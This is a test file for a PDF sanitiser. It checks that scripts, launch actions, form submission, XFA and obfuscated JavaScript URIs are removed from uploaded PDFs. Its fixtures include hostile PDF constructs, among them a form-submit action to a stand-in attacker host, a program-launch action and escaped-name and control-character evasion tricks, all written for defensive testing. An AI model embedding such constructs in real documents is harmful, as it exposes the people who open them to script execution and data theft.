import { PDFDocument } from '@cantoo/pdf-lib';
import { describe, expect, test } from 'vitest';
import { objectStream, onePage, rawPdf, type RawObjects } from '../../test/raw-pdf.ts';
import { shownPages } from '../../test/shown-pdf.ts';
import { readPdf } from './read-pdf.adapter.ts';

/** The file that is stored for another, unpacked. */
async function stored(bytes: Uint8Array): Promise<{ readonly pdf: Uint8Array; readonly text: string }> {
  const answer = await readPdf(bytes);
  if (answer.kind !== 'read' || !answer.pdf) throw new Error(JSON.stringify(answer));
  const document = await PDFDocument.load(answer.pdf, { updateMetadata: false, preserveXFA: true });
  const objects = document.context.enumerateIndirectObjects().map(([, object]) => object.toString());
  return { pdf: answer.pdf, text: objects.join('\n') };
}

const SCRIPT = '<< /S /JavaScript /JS (evil) >>';
const FIELD = '/Subtype /Widget /FT /Tx /T (t) /Rect [10 20 110 40]';
const FORM = { catalog: '/AcroForm << /Fields [20 0 R] >>', page: '/Annots [20 0 R]' };
const field = (more: string): RawObjects => ({ 20: `<< ${FIELD} ${more} >>` });

describe('Contract 5, Documents: scripts are removed', () => {
  test.each<[string, Parameters<typeof onePage>[0]]>([
    ['when the file is opened', { catalog: `/OpenAction ${SCRIPT}` }],
    ['when it is opened, in another object', { catalog: '/OpenAction 10 0 R', objects: { 10: SCRIPT } }],
    [
      'that are streams themselves',
      {
        catalog: '/OpenAction 10 0 R',
        page: '/AA << /O 10 0 R >>',
        objects: { 10: { dict: '/S /JavaScript /JS (evil)', stream: '' } },
      },
    ],
    [
      'of the document, whose names are a stream',
      {
        catalog: '/Names 10 0 R',
        objects: { 10: { dict: '/JavaScript << /Names [(evil) << /JS (evil) >>] >>', stream: '' } },
      },
    ],
    [
      'in a stream',
      {
        catalog: '/OpenAction << /S /JavaScript /JS 10 0 R >>',
        objects: { 10: { dict: '', stream: 'evil' } },
      },
    ],
    ['after going to a page', { catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${SCRIPT} >>` }],
    [
      'after going to a page, among others',
      {
        catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage >> ${SCRIPT}] >>`,
      },
    ],
    [
      'of the document',
      { catalog: '/Names << /JavaScript << /Names [(evil) 10 0 R] >> >>', objects: { 10: SCRIPT } },
    ],
    [
      'when it is saved or printed',
      { catalog: `/AA << /WS ${SCRIPT} /DP 10 0 R >>`, objects: { 10: SCRIPT } },
    ],
    ['when a page is opened', { page: `/AA << /O ${SCRIPT} >>` }],
    ['when a link is followed', { page: `/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A ${SCRIPT} >>]` }],
    [
      'when the mouse comes',
      { page: `/Annots [<< /Subtype /Link /Rect [0 0 9 9] /AA << /E ${SCRIPT} >> >>]` },
    ],
    ['when a field is changed', { ...FORM, objects: field(`/AA << /K ${SCRIPT} /C 10 0 R >>`) }],
    [
      'when a group of fields is changed',
      {
        ...FORM,
        objects: {
          ...field('/Parent 21 0 R'),
          21: `<< /T (above) /Kids [20 0 R] /AA << /F ${SCRIPT} >> >>`,
        },
      },
    ],
    ['when a button is pressed', { ...FORM, objects: field(`/A ${SCRIPT}`) }],
    [
      'when a bookmark is followed',
      {
        catalog: '/Outlines << /First 10 0 R /Last 10 0 R >>',
        objects: { 10: `<< /Title (a) /A ${SCRIPT} >>` },
      },
    ],
    [
      'as an address',
      {
        page: '/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ( JavaScript:evil) >> >>]',
      },
    ],
    ...['java\\tscript:evil', '\\001java\\r\\nscript\\t:evil'].map(
      (address): [string, Parameters<typeof onePage>[0]] => [
        `as the address ${address}`,
        { page: `/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (${address}) >> >>]` },
      ],
    ),
    ['that starts a program', { catalog: '/OpenAction << /S /Launch /F (evil.exe) >>' }],
    ['that sends the form', { ...FORM, objects: field('/A << /S /SubmitForm /F (https://evil.example) >>') }],
    [
      'that fills the form from elsewhere',
      { ...FORM, objects: field('/A << /S /ImportData /F (evil.fdf) >>') },
    ],
    ['that plays something', { catalog: '/OpenAction << /S /Rendition /OP 0 /JS (evil) >>' }],
    [
      'of a model in space',
      {
        page: '/Annots [<< /Subtype /3D /Rect [0 0 9 9] /3DD 10 0 R >>]',
        objects: {
          10: { dict: '/Type /3D /OnInstantiate 11 0 R', stream: '' },
          11: { dict: '', stream: 'evil' },
        },
      },
    ],
    ['under an escaped name', { catalog: '/Open#41ction << /#53 /Java#53cript /J#53 (evil) >>' }],
  ])('%s', async (_, file) => {
    const { pdf, text } = await stored(onePage(file));
    expect(text).not.toMatch(/evil|JavaScript|Launch|OnInstantiate|\/AA/i);
    expect(Buffer.from(pdf).toString('latin1')).not.toMatch(/evil/);
    expect((await shownPages(pdf)).map((page) => page.text)).toEqual(['An agreement']);
  });

  test('packed into a stream of objects', async () => {
    const objects = {
      1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
      2: '<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 9 9] >>',
      3: '<< /Type /Page /Parent 2 0 R >>',
      5: SCRIPT,
    };
    expect((await stored(rawPdf({ 9: objectStream(objects) }))).text).not.toContain('evil');
  });

  test('and nothing else', async () => {
    const bytes = onePage({
      catalog: `/OpenAction ${SCRIPT} /Names << /Dests << /Names [(a) [3 0 R /Fit]] >> >> /Perms << /UR3 10 0 R >>`,
      page: '/Annots [20 0 R << /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.example) >> >>]',
      objects: { ...field('/V (kept)'), 10: '<< /Type /Sig /ByteRange [0 1 2 3] >>' },
    });
    const { pdf, text } = await stored(bytes);
    expect(text).toContain('https://a.example');
    expect(text).toContain('/Dests');
    expect((await shownPages(pdf))[0]?.widgets).toMatchObject([{ name: 't', value: 'kept' }]);
    // Usage rights were a signature over other bytes.
    expect(text).not.toContain('/Perms');
  });
});

describe('Contract 5, Documents: XFA is removed', () => {
  test('of a form that is a stream', async () => {
    const objects = { ...field(''), 10: { dict: '/Fields [20 0 R] /XFA (evil)', stream: '' } };
    const { text } = await stored(
      onePage({ catalog: '/AcroForm 10 0 R', page: '/Annots [20 0 R]', objects }),
    );
    expect(text).not.toMatch(/XFA|evil/);
  });

  test.each(['10 0 R', '[(template) 10 0 R (datasets) 11 0 R]'])('%s', async (xfa) => {
    const bytes = onePage({
      catalog: `/AcroForm << /Fields [20 0 R] /XFA ${xfa} >>`,
      page: '/Annots [20 0 R]',
      objects: { ...field(''), 10: { dict: '', stream: '<evil/>' }, 11: { dict: '', stream: '<evil/>' } },
    });
    const { pdf, text } = await stored(bytes);
    expect(text).not.toMatch(/XFA|evil/);
    expect(Buffer.from(pdf).toString('latin1')).not.toContain('evil');
    expect((await shownPages(pdf))[0]?.widgets).toMatchObject([{ name: 't' }]);
  });
});

describe('An object that is only a reference is broken: some readers follow it and some do not', () => {
  const BEHIND = { 21: '<< /XFA (evil) >>', 22: '<< /JavaScript << /Names [(a) << /JS (evil) >>] >> >>' };
  test.each<[string, Parameters<typeof onePage>[0]]>([
    ['a script', { catalog: '/OpenAction 10 0 R', objects: { 10: '11 0 R', 11: SCRIPT } }],
    [
      'the kind of one',
      { catalog: '/OpenAction << /S 10 0 R /JS (evil) >>', objects: { 10: '11 0 R', 11: '/JavaScript' } },
    ],
    ['a form with XFA', { catalog: '/AcroForm 10 0 R', objects: { ...BEHIND, 10: '21 0 R' } }],
    ['names of scripts', { catalog: '/Names 10 0 R', objects: { ...BEHIND, 10: '22 0 R' } }],
    ['one to itself', { catalog: '/Names 10 0 R', objects: { 10: '10 0 R' } }],
  ])('%s', async (_, file) => {
    expect(await readPdf(onePage(file))).toMatchObject({ kind: 'refused', code: 'broken' });
  });
});

test('The same file is stored for the same file', async () => {
  const bytes = onePage({ catalog: `/OpenAction ${SCRIPT}` });
  expect(await readPdf(bytes)).toEqual(await readPdf(bytes));
});
